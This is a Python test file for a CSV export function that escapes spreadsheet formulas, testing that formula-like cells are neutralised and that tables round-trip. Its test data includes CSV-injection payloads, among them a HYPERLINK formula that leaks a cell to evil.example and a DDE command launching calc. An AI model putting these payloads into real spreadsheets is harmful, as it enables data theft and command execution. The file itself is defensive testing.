"""CSV for spreadsheets: what is written is read again, and nothing in it is run."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from herder.accounts.csv_export import escape_formula, to_csv

STARTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '"=1+1',
        '""=1+1',
        "'=1+1",
        "  =1+1",
        '" @x',
        "\uff1d1+1",
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        "=cmd|'/C calc'!A0",
    ],
)
def test_what_would_be_a_formula_is_none(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "llama-3", "a=b", "x+y", "10", "'quoted'", "ada@home", "🦙"])
def test_other_texts_stay_as_they_are(text):
    assert escape_formula(text) == text


cells = st.text(max_size=30) | st.builds(
    lambda start, rest: start + rest, st.sampled_from(STARTERS), st.text(max_size=10)
)


@given(cells)
def test_no_text_begins_a_formula(text):
    safe = escape_formula(text)
    assert safe.strip().lstrip('"')[:1] not in [*STARTERS, ""] or safe.strip().strip('"') == ""
    assert safe.removeprefix("'") == text or safe == text


@given(st.lists(st.tuples(cells, st.integers(0, 2**70), cells), max_size=5))
def test_a_table_is_read_again_cell_by_cell(rows):
    written = to_csv(("one", "two", "=three"), rows)
    (titles, *found) = csv.reader(io.StringIO(written, newline=""))
    assert titles == ["one", "two", "=three"]
    assert found == [[escape_formula(a), str(b), escape_formula(c)] for a, b, c in rows]


def test_no_separator_of_anybodys_begins_a_cell():
    """Where a semicolon or a tab separates, a text that is not quoted would be two cells."""
    line = to_csv(("model",), [["a;=1+1"], ['b","=1+1'], ["c\t=1"], ["d\r\n=1"]])
    assert line == ('"model"\r\n"a;=1+1"\r\n"b"",""=1+1"\r\n"c\t=1"\r\n"d\r\n=1"\r\n')


def test_numbers_are_numbers():
    assert to_csv(("n",), [[5], [-5]], line_end="\n") == '"n"\n5\n-5\n'
